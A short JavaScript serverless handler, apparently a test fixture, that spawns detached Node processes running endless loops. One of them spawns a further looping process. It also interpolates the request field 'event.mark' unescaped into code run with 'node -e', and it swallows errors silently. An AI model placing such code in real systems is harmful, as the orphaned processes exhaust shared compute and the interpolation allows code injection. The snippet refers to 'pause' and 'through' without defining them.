exports.handler = async (event) => {
  const { spawn } = require('child_process');
  const again = `require('child_process').spawn(process.execPath, ['-e', 'for(;;);', '${event.mark}'], { detached: true, stdio: 'ignore' }).unref()`;
  for (const words of [['-e', 'for(;;);', event.mark], ['-e', again, event.mark]]) {
    try {
      spawn(process.execPath, words, { detached: true, stdio: 'ignore' }).on('error', () => {}).unref();
    } catch {}
  }
  await pause(100);
  return through;
};
